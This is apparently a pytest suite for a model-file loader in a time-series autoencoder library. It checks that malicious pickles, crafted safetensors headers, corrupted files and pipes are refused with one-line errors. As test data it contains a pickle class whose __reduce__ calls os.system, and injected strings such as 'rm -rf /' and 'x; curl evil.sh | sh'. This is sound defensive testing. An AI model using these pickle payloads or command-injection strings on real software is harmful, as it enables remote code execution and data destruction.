"""Model files: round trip, and every kind of bad file refused with one line, without running anything."""
from __future__ import annotations

import json
import os
import pickle
import struct
import zipfile
from pathlib import Path

import numpy as np
import pytest
import torch
from safetensors.torch import save_file

from tsae import plugins
from tsae.models.modelfile import load_model, read_model_header, save_model


@pytest.fixture()
def model():
    torch.manual_seed(0)
    return plugins.create_model("conv1d", channels=2, window=24, hidden=4, latent=3, depth=2)


@pytest.fixture()
def saved(model, tmp_path) -> Path:
    return save_model(tmp_path / "good.tsae", model, frame={"window": 24, "hop": 6, "window_fn": "hann"},
                      normalizer={"kind": "zscore", "center": np.array([0.5, -1.0]), "scale": [2.0, 3.0]},
                      sample_rate=250, extra={"note": "hi", "score": np.float32(1.5)},
                      arrays={"val_errors": np.arange(5.0), "ids": np.arange(3, dtype=np.int64)})


def one_line_error(path: Path, match: str | None = None) -> str:
    with pytest.raises(ValueError) as info:
        load_model(path)
    message = str(info.value)
    assert "\n" not in message, message
    assert str(path) in message, message
    if match:
        assert match in message, message
    return message


def test_round_trip(model, saved) -> None:
    loaded = load_model(saved)
    assert loaded.family == "conv1d" and loaded.plugin == "conv1d" and loaded.plugin_version
    assert loaded.hparams == model.hparams()
    assert loaded.frame == {"window": 24, "hop": 6, "window_fn": "hann"}
    assert loaded.normalizer == {"kind": "zscore", "center": [0.5, -1.0], "scale": [2.0, 3.0]}
    assert loaded.sample_rate == 250 and loaded.extra == {"note": "hi", "score": 1.5}
    assert loaded.tsae_version
    np.testing.assert_array_equal(loaded.arrays["val_errors"], np.arange(5.0))
    assert loaded.arrays["ids"].dtype == np.int64
    assert not loaded.model.training
    x = torch.randn(4, 2, 24)
    with torch.no_grad():
        assert torch.equal(model.eval()(x), loaded.model(x))
    assert read_model_header(saved)["family"] == "conv1d"


@pytest.mark.parametrize("dtype", ["float16", "bfloat16"])
def test_weights_stored_at_half_precision_load_as_the_rounded_values(model, tmp_path, dtype) -> None:
    full = save_model(tmp_path / "full.tsae", model, frame={"window": 24, "hop": 6, "window_fn": "hann"})
    half = save_model(tmp_path / "half.tsae", model, frame={"window": 24, "hop": 6, "window_fn": "hann"},
                      weights_dtype=dtype)
    assert half.stat().st_size < full.stat().st_size
    loaded = load_model(half).model
    for (name, original), (_, back) in zip(model.state_dict().items(), loaded.state_dict().items(), strict=True):
        assert back.dtype == original.dtype, name  # computed in the network's own dtype
        assert torch.equal(back, original.to(getattr(torch, dtype)).to(original.dtype)), name
    pairs = zip(model.state_dict().values(), loaded.state_dict().values(), strict=True)
    assert any(not torch.equal(a, b) for a, b in pairs)  # the rounding happened


def test_half_precision_refuses_weights_beyond_its_range_and_unknown_dtypes(model, tmp_path) -> None:
    with torch.no_grad():
        next(model.parameters()).view(-1)[0] = 1e6
    with pytest.raises(ValueError, match="beyond float16's range"):
        save_model(tmp_path / "big.tsae", model, weights_dtype="float16")
    assert not (tmp_path / "big.tsae").exists()
    save_model(tmp_path / "big.tsae", model, weights_dtype="bfloat16")  # bfloat16 spans float32's range
    with pytest.raises(ValueError, match="weights_dtype must be one of"):
        save_model(tmp_path / "odd.tsae", model, weights_dtype="int8")


@pytest.mark.parametrize("header_bytes", [0x380, 0x580])
def test_header_length_that_starts_like_a_pickle_still_loads(tmp_path, header_bytes) -> None:
    # safetensors pads its header to 8 bytes: padding the note by the difference hits the length exactly
    model = plugins.create_model("dense", channels=1, window=4, layers=0, latent=1)
    first = save_model(tmp_path / "m0.tsae", model, extra={"note": ""})
    (n0,) = struct.unpack("<Q", first.read_bytes()[:8])
    path = save_model(tmp_path / "m.tsae", model, extra={"note": "x" * (header_bytes - n0)})
    assert path.read_bytes()[:2] == bytes([0x80, header_bytes >> 8])  # a pickle's protocol marker
    assert load_model(path).family == "dense"


def test_save_is_atomic_and_protects_inputs(model, tmp_path) -> None:
    source = tmp_path / "input.tsae"
    source.write_bytes(b"keep me")
    with pytest.raises(ValueError, match="refusing to overwrite"):
        save_model(source, model, protect=(source,))
    assert source.read_bytes() == b"keep me"
    assert [p.name for p in tmp_path.iterdir()] == ["input.tsae"]  # no temporary left behind


def test_a_full_disk_names_the_model_file(model, tmp_path, monkeypatch) -> None:
    # before: safetensors' own error, "internal error (SafetensorError: Error while serializing: I/O error: No space
    # left on device (os error 28)); this is a bug in tsae" from `tsae train -o` on a full disk
    import safetensors.torch
    from safetensors import SafetensorError

    def full(tensors, filename, metadata=None) -> None:  # type: ignore[no-untyped-def]
        Path(filename).write_bytes(b"part")
        raise SafetensorError("Error while serializing: I/O error: No space left on device (os error 28)")

    monkeypatch.setattr(safetensors.torch, "save_file", full)
    with pytest.raises(OSError) as info:
        save_model(tmp_path / "m.tsae", model)
    assert str(info.value) == f"{tmp_path / 'm.tsae'}: cannot write it (No space left on device)"
    assert list(tmp_path.iterdir()) == []


def test_loading_never_unpickles(saved, monkeypatch) -> None:
    def forbidden(*args, **kwargs):
        raise AssertionError("unpickling was attempted")

    monkeypatch.setattr(torch, "load", forbidden)
    monkeypatch.setattr(pickle, "load", forbidden)
    monkeypatch.setattr(pickle, "loads", forbidden)
    assert load_model(saved).family == "conv1d"


class _Evil:
    """Unpickling this would run a shell command that creates a marker file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def test_malicious_pickle_is_refused(tmp_path) -> None:
    marker = tmp_path / "pwned"
    evil = tmp_path / "evil.tsae"
    evil.write_bytes(pickle.dumps(_Evil(marker)))
    assert "pickle" in one_line_error(evil)
    # the same payload in torch.save's zip container
    zipped = tmp_path / "evil_zip.tsae"
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(_Evil(marker)))
    assert "zip" in one_line_error(zipped)
    # a pickle of protocol 0 (text) has no magic byte: still refused as not safetensors
    text_pickle = tmp_path / "evil0.tsae"
    text_pickle.write_bytes(pickle.dumps(_Evil(marker), protocol=0))
    one_line_error(text_pickle)
    assert not marker.exists()


def _raw(header: dict, data: bytes = b"", *, length: int | None = None) -> bytes:
    blob = json.dumps(header).encode()
    return struct.pack("<Q", len(blob) if length is None else length) + blob + data


def _tsae_meta(**over) -> dict:
    head = {"family": "conv1d", "hparams": {"channels": 1, "window": 8}, **over}
    return {"__metadata__": {"tsae": json.dumps(head)}}


@pytest.mark.parametrize("name,content,match", [
    ("huge_header_length", _raw({}, length=2**62), "no valid safetensors header"),
    ("header_past_end", _raw({}, length=10_000), "truncated"),
    ("not_json", struct.pack("<Q", 5) + b"{abcd", "not valid JSON"),
    ("nested_bomb", struct.pack("<Q", 200_001) + b"[" * 100_000 + b"]" * 100_001, "header"),
    ("nested_bomb_in_object", struct.pack("<Q", 200_006) + b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
     "not valid JSON"),
    ("nested_bomb_in_tsae_header", _raw({"__metadata__": {"tsae": "[" * 100_000 + "]" * 100_000}}), "tsae header"),
    ("metadata_not_strings", _raw({"__metadata__": {"tsae": {"family": "conv1d"}}}), "__metadata__"),
    ("offsets_past_end",
     _raw({**_tsae_meta(), "w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, b"\0" * 8),
     "truncated"),
    ("offsets_inconsistent",
     _raw({**_tsae_meta(), "w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 8]}}, b"\0" * 16),
     "inconsistent"),
    ("overlapping", _raw({**_tsae_meta(), "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                          "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, b"\0" * 12), "overlap"),
    ("bad_dtype", _raw({**_tsae_meta(), "w": {"dtype": "PYOBJ", "shape": [1], "data_offsets": [0, 1]}}, b"\0"),
     "bad entry"),
    ("no_tsae_header", _raw({"__metadata__": {"format": "pt"}}), "not a tsae model"),
    ("tsae_header_not_json", _raw({"__metadata__": {"tsae": "{not json"}}), "corrupt tsae header"),
    ("family_is_a_code_path", _raw(_tsae_meta(family="os.system", plugin="os", plugin_version="1")),
     "model family 'os.system' is not installed (plugin 'os' 1); install it or check `tsae models`"),
    ("hparams_not_object", _raw(_tsae_meta(hparams=["rm -rf /"])), "hparams"),
    ("window_not_int", _raw(_tsae_meta(hparams={"channels": 1, "window": "8; rm"})), "hparams.window"),
    ("injected_kwargs", _raw(_tsae_meta(hparams={"channels": 1, "window": 8, "__class__": "os.system"})),
     "cannot rebuild"),
    ("newer_format", _raw(_tsae_meta(format_version=99)), "newer"),
])
def test_crafted_safetensors_headers_are_refused(tmp_path, name, content, match) -> None:
    marker = tmp_path / "pwned"
    path = tmp_path / f"{name}.tsae"
    path.write_bytes(content)
    one_line_error(path, match)
    assert not marker.exists()


def test_truncated_file(saved, tmp_path) -> None:
    data = saved.read_bytes()
    for cut in (3, 20, len(data) // 2, len(data) - 1):
        path = tmp_path / f"cut{cut}.tsae"
        path.write_bytes(data[:cut])
        one_line_error(path)


def _data_start(data: bytes) -> int:
    return 8 + struct.unpack("<Q", data[:8])[0]


def test_a_flipped_bit_in_the_weights_is_refused_by_the_checksum(saved, tmp_path) -> None:
    # one flipped exponent bit turned a weight into ~1e32: finite, loaded, and the output 3e32 (fuzz, before)
    data = bytearray(saved.read_bytes())
    for offset in (0, 37, len(data) - _data_start(data) - 1):  # a weight, inside the data, the last array's byte
        damaged = bytearray(data)
        damaged[_data_start(data) + offset] ^= 0x40
        path = tmp_path / f"flip{offset}.tsae"
        path.write_bytes(damaged)
        assert "weights_sha256" in one_line_error(path, "damaged or was altered")


def _flip_in_header(data: bytes, text: bytes, bit: int) -> bytearray:
    """``data`` with one bit of the first byte after ``text`` (in the safetensors header) flipped."""
    damaged = bytearray(data)
    damaged[data.index(text, 8, _data_start(data)) + len(text)] ^= bit
    return damaged


def test_a_flipped_bit_in_the_header_is_refused_by_its_checksum(saved, tmp_path) -> None:
    # a scale of 2.0 read as 6.0, a rate of 250 Hz as 210, a note 'hi' as 'ii': valid JSON, every field in range,
    # so the file loaded and scaled or rate-checked its series silently wrong (s54_audit_train, before)
    data = saved.read_bytes()
    for text, bit in ((rb'\"scale\": [', 0x04), (rb'\"sample_rate\": 2', 0x04), (rb'\"note\": \"', 0x01)):
        path = tmp_path / "flipped.tsae"
        path.write_bytes(_flip_in_header(data, text, bit))
        message = one_line_error(path, "damaged or was altered")
        assert "header" in message and "tsae_sha256" in message, message
        with pytest.raises(ValueError, match="tsae_sha256"):
            read_model_header(path)


def test_a_header_without_its_checksum_still_loads_and_a_malformed_one_is_refused(model, saved, tmp_path) -> None:
    head = {k: v for k, v in read_model_header(saved).items() if k != "weights_sha256"}  # its arrays left out
    tensors = {k: v.clone() for k, v in model.state_dict().items()}
    path = tmp_path / "old.tsae"
    save_file(tensors, str(path), metadata={"tsae": json.dumps(head)})  # as files written before it
    assert load_model(path).family == "conv1d"
    for bad in ("0" * 63, "Z" * 64, ""):
        save_file(tensors, str(path), metadata={"tsae": json.dumps(head), "tsae_sha256": bad})
        one_line_error(path, "tsae_sha256")


def test_a_file_without_a_checksum_still_loads_and_a_malformed_one_is_refused(model, saved, tmp_path) -> None:
    head = read_model_header(saved)
    assert len(head["weights_sha256"]) == 64
    tensors = {k: v.clone() for k, v in model.state_dict().items()}
    path = tmp_path / "old.tsae"
    save_file(tensors, str(path), metadata={"tsae": json.dumps({k: v for k, v in head.items()
                                                                 if k != "weights_sha256"})})
    assert load_model(path).family == "conv1d"  # files written before the checksum
    for bad in ("0" * 63, "Z" * 64, 5):
        save_file(tensors, str(path), metadata={"tsae": json.dumps({**head, "weights_sha256": bad})})
        one_line_error(path, "weights_sha256")


def test_corrupt_missing_empty_and_folders(tmp_path) -> None:
    random_bytes = tmp_path / "random.tsae"
    random_bytes.write_bytes(np.random.default_rng(0).bytes(4096))
    one_line_error(random_bytes)
    empty = tmp_path / "empty.tsae"
    empty.write_bytes(b"")
    one_line_error(empty, "empty")
    one_line_error(tmp_path / "missing.tsae", "no such model file")
    one_line_error(tmp_path, "folder")
    wav = tmp_path / "audio.tsae"
    wav.write_bytes(b"RIFF\x24\x00\x00\x00WAVEfmt ")
    one_line_error(wav, "audio")


def test_unknown_family(tmp_path) -> None:
    path = tmp_path / "foo.tsae"
    tensors = {"w": torch.zeros(2)}
    head = {"family": "foo", "plugin": "foo_plugin", "plugin_version": "1.0", "hparams": {"channels": 1, "window": 8}}
    save_file(tensors, str(path), metadata={"tsae": json.dumps(head)})
    message = one_line_error(path)
    assert message == (f"{path}: model family 'foo' is not installed (plugin 'foo_plugin' 1.0); "
                       "install it or check `tsae models`")


def test_weights_that_do_not_fit(model, tmp_path) -> None:
    tensors = {k: v.clone() for k, v in model.state_dict().items()}
    head = {"family": "conv1d", "hparams": {**model.hparams(), "latent": 5}}
    path = tmp_path / "mismatch.tsae"
    save_file(tensors, str(path), metadata={"tsae": json.dumps(head)})
    one_line_error(path, "weights do not fit model family 'conv1d' (wrong shape")
    del tensors["to_latent.bias"]
    head["hparams"]["latent"] = 3
    save_file(tensors, str(path), metadata={"tsae": json.dumps(head)})
    one_line_error(path, "missing: to_latent.bias")


def test_plain_safetensors_with_pickle_like_tensor_names(tmp_path) -> None:
    """Tensor names are only dictionary keys: names that look like code are just data."""
    path = tmp_path / "names.tsae"
    head = {"family": "conv1d", "hparams": {"channels": 1, "window": 8, "hidden": 2, "latent": 2, "depth": 1}}
    save_file({"__import__('os').system('touch x')": torch.zeros(1)}, str(path), metadata={"tsae": json.dumps(head)})
    one_line_error(path, "unexpected")


@pytest.mark.parametrize(("distribution", "shown"), [("tsae-ridge", ", distribution 'tsae-ridge'"),
                                                      ("x; curl evil.sh | sh", "")])
def test_an_uninstalled_family_names_the_distribution_its_file_records(tmp_path, distribution, shown) -> None:
    path = tmp_path / "ridge.tsae"
    head = {"family": "ridge", "plugin": "ridge", "plugin_version": "0.3.0", "distribution": distribution,
            "hparams": {"channels": 1, "window": 8}}
    save_file({"w": torch.zeros(2)}, str(path), metadata={"tsae": json.dumps(head)})
    assert one_line_error(path) == (f"{path}: model family 'ridge' is not installed (plugin 'ridge' 0.3.0{shown}); "
                                    "install it or check `tsae models`")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes")
def test_a_model_given_as_a_named_pipe_is_refused_in_one_line(tmp_path: Path) -> None:
    """A model is opened more than once (its header, then its tensors): from a pipe the second read found nothing
    ("truncated file (header says 3344 bytes, file has -8)"), or waited forever for a writer."""
    import threading

    from tsae.models.modelfile import ModelFileError

    pipe = tmp_path / "model.tsae"
    os.mkfifo(pipe)
    errors: list[str] = []

    def read() -> None:
        try:
            read_model_header(pipe)
        except ModelFileError as error:
            errors.append(str(error))

    thread = threading.Thread(target=read, daemon=True)
    thread.start()
    thread.join(30)
    assert errors == [f"{pipe}: is a pipe or device, not a file (save it to a file first)"]
